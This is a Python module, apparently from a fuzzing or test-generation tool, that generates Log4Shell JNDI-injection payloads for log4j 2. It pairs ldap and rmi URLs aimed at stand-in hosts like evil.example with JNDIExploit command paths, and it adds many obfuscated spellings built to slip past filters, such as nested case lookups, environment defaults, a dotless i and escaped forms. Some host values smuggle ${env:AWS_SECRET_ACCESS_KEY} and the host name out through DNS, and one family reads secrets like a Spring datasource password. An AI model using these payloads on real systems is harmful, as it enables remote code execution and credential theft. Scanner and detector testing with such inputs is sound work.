"""Lookups of log4j that reach for a directory: `${jndi:…}` and all the lookups that spell its letters.

From the manual of log4j 2. Each value is resolved as log4j would, and must end in a lookup of jndi: see `resolves`.
"""

import random
import re
import string as letters
from urllib.parse import unquote

from ..grammar import Expansion, Grammar

INNERMOST = re.compile(r"\$\{([^${}]*)\}")


def resolve(text: str) -> str:
    """What is left when all inner lookups are resolved; an unknown one gives its default."""
    for _ in range(200):
        found = INNERMOST.search(text)
        if not found:
            break
        body = found[1]
        if body.lower().startswith("jndi:"):
            return "jndi"
        name, _, argument = body.partition(":")
        known = name.lower()
        if known == "lower":
            value = argument.lower()
        elif known == "upper":
            # The dotless i is an I in capitals.
            value = argument.upper()
        elif known == "date":
            value = argument.strip("'")
        elif ":-" in body:
            value = body.partition(":-")[2]
        else:
            value = "x"
        text = text[: found.start()] + value + text[found.end() :]
    return text


def resolves(value: str) -> bool:
    for _ in range(3):
        if resolve(value) == "jndi":
            return True
        value = unquote(re.sub(r"\\u00([0-9a-f]{2})", lambda m: chr(int(m[1], 16)), value))
    return False


def letter(expansion: Expansion, text: str) -> str:
    """One letter by a lookup that yields it."""
    chance = expansion.chance
    junk = "".join(chance.choice(letters.ascii_letters) for _ in range(chance.randint(1, 6)))
    form = chance.choice(
        [
            "${{lower:{0}}}",
            "${{upper:{0}}}",
            "${{::-{0}}}",
            "${{env:{1}:-{0}}}",
            "${{sys:{1}:-{0}}}",
            "${{{1}:-{0}}}",
            "${{lower:${{lower:{0}}}}}",
            "${{date:'{0}'}}",
            "${{{1}:{1}:-{0}}}",
            "${{:-{0}}}",
            "${{main:{1}:-{0}}}",
            "${{k8s:{1}:-{0}}}",
            "${{lower:${{upper:{0}}}}}",
            "${{env:{1}{1}:-{0}}}",
            "${{{1}::-{0}}}",
        ]
    )
    return form.format(text, junk)


def spelled(expansion: Expansion) -> str:
    """`jndi:` with some letters by lookups."""
    share = expansion.chance.choice([0.2, 0.5, 1.0])
    name = "jndi:" + expansion.pick(["", "", "ldap:"])
    if expansion.chance.random() < 0.2:
        at = expansion.chance.randint(1, 4)
        return letter(expansion, name[:at]) + name[at:]
    return "".join(letter(expansion, c) if expansion.chance.random() < share else c for c in name)


def any_case(text: str, chance: random.Random) -> str:
    return (
        re.sub("jndi|ldap|rmi", lambda m: "".join(c.upper() if chance.random() < 0.5 else c for c in m[0]), text)
        if chance.random() < 0.3
        else text
    )


def grammars() -> list[Grammar]:
    g = Grammar("log4j")
    g.rule("spelled", spelled)
    g.rule("protocol", "ldap", "ldap", "ldap", "rmi", "dns", "ldaps", "iiop", "nis", "nds", "corba", "http", "https", "ldap", "iiopname")
    g.rule(
        "host",
        "x.example",
        "evil.example:1389",
        "10.0.0.1:1099",
        "127.0.0.1#evil.example:1389",
        "«h».x.example",
        "${hostName}.x.example",
        "${env:USER}.x.example",
        "${sys:java.version}.«h».x.example",
        "[::1]:1389",
        "${env:AWS_SECRET_ACCESS_KEY}.x.example",
        "«n».x.example:«n»",
        "${java:os}.x.example",
        "1.2.3.4",
        "$hostname.x.example",
        "${ctx:loginId}.x.example",
        "x.example:443",
    )
    g.rule(
        "path",
        "/a",
        "/«w»",
        "/Exploit",
        "",
        "/",
        "/Basic/Command/Base64/«h»",
        "/${java:version}",
        "/o=tomcat",
        "/TomcatBypass/Command/Base64/«h»",
        "/«h»",
        "/cn=«w»,dc=example",
        "/${env:HOSTNAME}",
        "/«w»?«w»=1",
    )
    g.rule(
        "lead",
        "",
        "",
        "",
        "",
        "«w»",
        "«w»=",
        "Mozilla/5.0 ",
        "/?x=",
        "'",
        '"',
        "a ",
        "%",
        "() ",
        "Bearer ",
        "http://x.example/",
        "«w» «w» ",
    )
    g.rule("trail", "", "", "", "", "«w»", "}", " «w»", "'", "/", "?x=1", '"', "&«w»=1")
    g.family(
        "plain",
        "«lead»${jndi:«protocol»://«host»«path»}«trail»",
        "${jndi:«protocol»://«host»«path»}",
        "«lead»${jndi:«protocol»:«host»«path»}",
        "${jndi:«protocol»:/«host»«path»}",
        "«lead»${jndi:«protocol»://«host»«path»}",
        "${ jndi:«protocol»://«host»}",
        "${jndi:java:comp/env/«w»}",
        "${jndi:java:/comp/env/«w»}",
        "${jndi:«protocol»:////«host»«path»}",
        "${jndi:${«w»:-«protocol»}://«host»«path»}",
        "${jndi:«w»}",
        "${jndi:«protocol»://«host»",
        then=any_case,
        weight=3,
    )
    g.family(
        "nested",
        "«lead»${«spelled»«protocol»://«host»«path»}«trail»",
        "${«spelled»${lower:«protocol»}://«host»«path»}",
        "«lead»${«spelled»//«host»«path»}",
        "${«spelled»«protocol»${::-:}//«host»«path»}",
        check=resolves,
        weight=8,
    )
    g.family(
        "nested-escaped",
        "$%7bjndi:«protocol»://«host»«path»%7d",
        "%24%7bjndi:«protocol»://«host»«path»%7d",
        "\\u0024{jndi:«protocol»://«host»«path»}",
        "$\\u007bjndi:«protocol»://«host»«path»}",
        "\\u0024\\u007b«spelled»«protocol»://«host»«path»\\u007d",
        "%24%7B«spelled»«protocol»://«host»«path»%7D",
        "${jnd%69:«protocol»://«host»«path»}",
        check=resolves,
        weight=2,
    )
    g.family(
        "nested-odd",
        "${jnd${upper:ı}:«protocol»://«host»«path»}",
        "${${env:«w»:-j}ndi${env:«w»:-:}${env:«w»:-l}dap${env:«w»:-:}//«host»«path»}",
        "${${::-j}${::-n}${::-d}${::-i}:${::-l}${::-d}${::-a}${::-p}://«host»«path»}",
        "${j${k8s:k5:-ND}i${sd:k5:-:}«protocol»://«host»«path»}",
        "${${what:ever:-j}${some:thing:-n}${other:thing:-d}${and:last:-i}:«protocol»://«host»«path»}",
        "${jn${date:'d'}i:«protocol»://«host»«path»}",
        "${jn${lower:}di:«protocol»://«host»«path»}",
        "${base64:JHtqbmRpOmxkYXA6Ly94LmV4YW1wbGUvYX0=}",
        "${j${main:\\k5:-Nd}i${spring:k5:-:}«protocol»://«host»«path»}",
        "${${lower:jndi}:${lower:«protocol»}://«host»«path»}",
        "${${lower:j}${upper:n}${lower:d}${upper:i}:${lower:r}m${lower:i}://«host»«path»}",
        "${${-:-j}ndi:«protocol»://«host»«path»}",
        "${jndi${123%25ff:-}:«protocol»://«host»«path»}",
        "${jn${::-}di:«protocol»://«host»«path»}",
    )
    g.family(
        "leak-without-jndi",
        "${env:«w»}",
        "${env:AWS_SECRET_ACCESS_KEY}",
        "${sys:user.name}",
        "${java:version}",
        "${env:USER}",
        "${sys:os.name}",
        "${hostName}",
        "${ctx:«w»}",
        "${bundle:application:spring.datasource.password}",
        "${docker:containerId}",
        "${k8s:namespace}",
        "${web:rootDir}",
        "${main:0}",
        "${log4j:configLocation}",
        "${::-${::-$${::-j}}}",
        "${${::-${::-$${::-j}}}}",
        tags=["needs-sink"],
    )
    return [g]
